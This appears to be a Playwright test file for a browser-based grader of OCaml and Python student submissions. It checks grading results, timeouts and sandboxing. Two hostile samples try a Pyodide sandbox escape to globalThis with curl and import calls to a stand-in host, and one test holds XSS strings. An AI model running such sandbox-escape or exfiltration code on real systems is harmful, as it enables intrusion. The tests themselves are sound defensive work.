"""Submissions graded on the page: as by the command line, even hostile ones, and no data leaves the browser."""

import csv
import re
import time
import zipfile
from collections.abc import Mapping
from html import unescape
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from grading.hand_ins import HAND_INS, Made
from grading.reports import graded, graded_made
from grading.test_hostile import GOOD_ML, GOOD_PY
from harness.nonempty import nonempty
from playwright.sync_api import BrowserContext, FilePayload, Page, expect

from rummifun.grading.classroom.grader import GradedSubmission
from rummifun.grading.report.class_summary import spreadsheet_text
from rummifun.grading.report.html_report import report_page as html_page
from rummifun.messages import translation

from ..browser.pointers import script
from ..browser.test_browser_screens import faults
from .conftest import Elsewhere, Host, controlled

LONG = 300_000  # milliseconds: the machine may be busy with other tests
LEURRES = Path(__file__).parents[2] / "grading" / "hand_ins" / "leurres.ml"
STORED, KEPT, DROPPED = map(script, ("stored", "kept", "dropped"))


def entered(context: BrowserContext, host: Host, lang: str = "en") -> Page:
    context.add_init_script(f"if (location.protocol === 'http:') localStorage.setItem('lang', '{lang}')")
    page = context.new_page()
    page.goto(f"{host.address}#/rendu")
    page.wait_for_selector(".handin")
    controlled(page)
    return page


def put(page: Page, files: Mapping[str, bytes]) -> None:
    given: list[FilePayload] = [{"name": name, "mimeType": "", "buffer": content} for name, content in files.items()]
    page.set_input_files("input[type=file]", given)


def checked(page: Page, files: Mapping[str, bytes]) -> str:
    put(page, files)
    page.locator("button.main").click()
    page.wait_for_selector(".report, .handin [role=alert]:not(:empty)", timeout=LONG)
    expect(page.locator(".handin [role=alert]")).to_have_text("")
    page.evaluate("document.querySelectorAll('.report details').forEach((one) => (one.open = true))")
    return page.locator(".report").inner_text()


def saved(page: Page, said: str) -> str:
    with page.expect_download() as coming:
        page.get_by_role("button", name=re.compile(said, re.IGNORECASE)).click()
    return Path(coming.value.path()).read_bytes().decode("utf-8-sig")


def file_of(made: Made, name: str) -> tuple[str, bytes]:
    text = made.text if isinstance(made.text, bytes) else made.text.encode()
    if made.beside:
        return f"{name}.zip", packed({name: text, **{n: t.encode() for n, t in made.beside}})
    return name, text


def packed(files: Mapping[str, bytes]) -> bytes:
    zipped = BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return zipped.getvalue()


def fits(page: Page) -> bool:
    return bool(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))


def test_check_shows_a_smallest_case(context: BrowserContext, host: Host, elsewhere: Elsewhere) -> None:
    page = entered(context, host, "fr")
    assert faults(page) == []
    expect(page.get_by_text("ne quitte cette machine")).to_be_visible()
    name = "faux_tour.ml"
    told = checked(page, dict([file_of(HAND_INS[name], name)]))
    assert "le tour ne passe pas" in told
    report = html_page([GradedSubmission(name, graded(name))], translation("fr"), "fr")
    cases = [unescape(one) for one in re.findall("<pre>(.*?)</pre>", report, re.DOTALL)]
    assert [one for one in cases if one.startswith("piocher (")]
    assert page.locator(".report pre").all_text_contents() == cases
    for width, scheme in ((1280, "light"), (360, "dark")):
        page.set_viewport_size({"width": width, "height": 800})
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        assert faults(page) == []
        assert fits(page)
    kept = saved(page, "enregistrer le rapport")
    ran = re.compile(r'<p class="soft">Exécuté [^<]*</p>\n?')
    assert ran.sub("", kept) == ran.sub("", report)
    assert elsewhere.asked == []


PYTHON = """
def cardinal(ens):
    return sum(n for _, n in ens)
def nbocc(x, ens):
    return sum(n for y, n in ens if x is y)
def inclus(e, f):
    return all(n <= nbocc(x, f) for x, n in e)
def ajoute(xn, ens):
    return [*ens, xn]
"""


@pytest.mark.lent
def test_check_marks_all_hand_ins_as_the_command_line_does(context: BrowserContext, host: Host) -> None:
    """The marks and the points of each are the same, without the remarks."""
    page, more = entered(context, host), {"leurres.ml": Made(LEURRES.read_text("utf-8")), "rendu.py": Made(PYTHON)}
    ones = {**HAND_INS, **more}
    files = dict(file_of(made, name) for name, made in ones.items())
    checked(page, files)
    pairs = zip(ones.items(), files, strict=True)
    native = [GradedSubmission(file, graded_made(made, name)) for (name, made), file in pairs]
    told = spreadsheet_text(sorted(native, key=lambda one: one.name), translation("en"), "en").removeprefix("\ufeff")
    here, there = ([row[:-1] for row in csv.reader(StringIO(one))] for one in (told, saved(page, "save the marks")))
    assert (len(there), there) == (3 + 18, here)
    page.set_viewport_size({"width": 360, "height": 800})
    assert fits(page)
    assert faults(page) == []


@pytest.mark.lent
def test_check_takes_files_as_a_hand_in_each_or_one_together(context: BrowserContext, host: Host) -> None:
    page, good = entered(context, host), GOOD_ML.encode()
    told = checked(page, {"a.ml": good, "b.zip": packed({"x/b.ml": good, "y/c.ml": b"let x = 1"})})
    expect(page.locator(".report article > h2")).to_have_text(["Hand-ins", "a.ml", "b.zip"])
    assert "x/b.ml, y/c.ml" in told
    page.locator(".files li", has_text="b.zip").get_by_role("button").click()
    put(page, {"d.ml": b"let cardinal ens = List.fold_left (fun n (_, m) -> n + m) 0 ens"})
    page.get_by_label("all these files are one hand-in").check()
    checked(page, {})
    expect(page.locator(".report article > h2")).to_have_text(["a.ml, d.ml"])


@pytest.mark.lent
def test_check_finds_what_does_not_end_and_judges_the_others(context: BrowserContext, host: Host) -> None:
    page = entered(context, host)
    loops = {
        "a.ml": f"let rec cardinal (ens : (int * int) list) : int = cardinal ens\n{GOOD_ML}",
        "b.py": f"def cardinal(ens):\n    while True: pass\n{GOOD_PY}",
        "c.py": f"def cardinal(ens):\n    return sum(range(10 ** 15))\n{GOOD_PY}",  # no clock of Python looks in there
        "d.ml": GOOD_ML,
    }
    checked(page, {name: text.encode() for name, text in loops.items()})
    for article in nonempty(page.locator(".report article").all()[1:]):
        name, told = article.locator("h2").inner_text(), article.inner_text()
        assert ("it does not end in the time given" in told) == (name != "d.ml"), name
        assert float(re.findall(r"([\d.]+) / 24.99", told)[0]) > 1, name  # nbocc is right


@pytest.mark.lent
def test_check_is_stopped_and_keeps_what_was_put_in(context: BrowserContext, host: Host) -> None:
    page = entered(context, host)
    put(page, {"a.py": b"sum(range(10 ** 15))"})
    page.locator("button.main").click()
    expect(page.locator(".state")).to_contain_text("a.py", timeout=LONG)
    page.get_by_role("button", name="stop").click()
    expect(page.locator(".state")).to_have_text("The check was stopped.")
    expect(page.locator("iframe")).to_have_count(0)
    expect(page.locator(".files li")).to_contain_text("a.py")
    page.locator("button.main").click()
    expect(page.locator("iframe")).to_have_count(1)
    page.goto(f"{host.address}#/")
    page.wait_for_selector(".card")
    expect(page.locator("iframe")).to_have_count(0)


ATTACK_PY = """
import sys
reached = []
for name in ("js", "pyodide_js"):
    sys.modules.pop(name, None)
    try:
        __import__(name)
        reached.append(name)
    except ImportError:
        pass
proxies, frame = [], sys._getframe()
while frame:
    proxies += [one for one in [*frame.f_locals.values(), *frame.f_globals.values()] if type(one).__name__ == "JsProxy"]
    frame = frame.f_back
world = proxies[0].constructor.constructor("return globalThis")()
for name in (
    "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts", "indexedDB", "caches",
    "navigator", "BroadcastChannel", "Worker", "postMessage", "localStorage", "document", "cookieStore", "location",
):
    if proxies[0].constructor.constructor(f"return typeof {name} !== 'undefined'")():
        reached.append(name)
for address in ("http://elsewhere.example/told", "HOST/told", "HOST/VERSION/told"):
    proxies[0].constructor.constructor("address", "import(address).catch(() => 0)")(address)
raise RuntimeError("reached: " + (" ".join(reached) or "nothing"))
"""

ATTACK_ML = """
external js : string -> int = "caml_js_eval_string"

let () = ignore (Sys.command "curl http://elsewhere.example/told")
let () = ignore (open_in "http://elsewhere.example/told")
let () = print_string (Unix.getenv "HOME")
let x = Js_of_ocaml.Js.Unsafe.global

#use "http://elsewhere.example/told"

#load "unix.cma"

"""


@pytest.mark.lent
def test_check_lets_a_hostile_hand_in_reach_neither_network_nor_storage(
    context: BrowserContext, host: Host, elsewhere: Elsewhere
) -> None:
    page = entered(context, host)
    before = page.evaluate(STORED)
    version = str(page.evaluate("document.querySelector('script[src*=main]').getAttribute('src')")).split("/")[1]
    attack = ATTACK_PY.replace("HOST", host.address.rstrip("/")).replace("VERSION", version)
    told = checked(page, {"a.py": f"{attack}\n{GOOD_PY}".encode(), "a.ml": f"{ATTACK_ML}\n{GOOD_ML}".encode()})
    assert "reached: nothing" in told
    assert "`external` calls what is not OCaml" in told
    assert "1.25 / 24.99" in told  # nbocc is right
    page.wait_for_timeout(1000)
    assert ([one for one in host.asked if "told" in one], elsewhere.asked, page.evaluate(STORED)) == ([], [], before)


@pytest.mark.lent
def test_shown_brings_no_script_of_a_forged_report(context: BrowserContext, host: Host) -> None:
    inside = "<script>document.title='x'</script><img src=x><a href=javascript:f()>a</a>"
    shown = entered(context, host).evaluate(
        """async (html) => {
          const main = document.querySelector("script[src*=main]").src;
          const { shown } = await import(new URL("report_html.js", main).href);
          return shown(html).innerHTML;
        }""",
        f"<main><article>{inside}</article></main>",
    )
    assert not re.search("<(script|img)|javascript:", shown)


@pytest.mark.lent
def test_check_works_without_a_network(context: BrowserContext, host: Host) -> None:
    page, until = entered(context, host), time.monotonic() + 200
    while not page.evaluate(KEPT):
        assert time.monotonic() < until
        page.wait_for_timeout(500)
    host.cut()
    page.reload()
    page.wait_for_selector(".handin")
    wrong = f"let rec cardinal ens = match ens with [] -> 0 | (_, n) :: r -> 1 + cardinal r\n{GOOD_ML}"
    assert "cardinal [(" in checked(page, {"a.ml": wrong.encode()})


@pytest.mark.lent
def test_check_answers_nonsense_with_a_sentence(context: BrowserContext, host: Host, tmp_path: Path) -> None:
    page = entered(context, host)
    alert = page.locator(".handin [role=alert]")
    for name, size, sentence in (
        ("image.png", 10, "image.png is not a hand-in"),
        ("vide.ml", 0, "vide.ml is empty"),
        ("gros.ml", 50 << 20, "gros.ml is too large: 2 MB"),
        ("gros.zip", 50 << 20, "gros.zip is too large: 20 MB"),
    ):
        with (tmp_path / name).open("wb") as file:
            file.truncate(size)
        page.set_input_files("input[type=file]", tmp_path / name)
        expect(alert).to_contain_text(sentence)
        expect(page.locator(".handin button.main")).to_be_disabled()
    assert faults(page) == []
    put(page, {"bruit.ml": bytes(range(256))})
    page.locator("button.main").click()
    page.wait_for_selector(".report, .handin [role=alert]:not(:empty)", timeout=LONG)
    expect(page.locator(".handin")).to_contain_text("bruit.ml")


@pytest.mark.lent
def test_check_takes_files_by_keys_and_by_drops(context: BrowserContext, host: Host) -> None:
    page = entered(context, host)
    one: FilePayload = {"name": "a.py", "mimeType": "", "buffer": GOOD_PY.encode()}
    page.on("filechooser", lambda chooser: chooser.set_files(one))
    page.wait_for_timeout(1000)  # until the browser has heard that a file will be chosen so
    page.get_by_role("button", name="choose files").focus()
    page.keyboard.press("Enter")
    expect(page.locator(".handin button.main")).to_be_focused()
    page.keyboard.press("Enter")
    page.wait_for_selector(".report", timeout=LONG)
    expect(page.get_by_role("region", name="report")).to_be_focused()
    page.reload()
    page.wait_for_selector(".handin")
    page.evaluate(DROPPED, [".drop", "a.py", GOOD_PY])
    expect(page.locator(".files li")).to_contain_text("a.py")
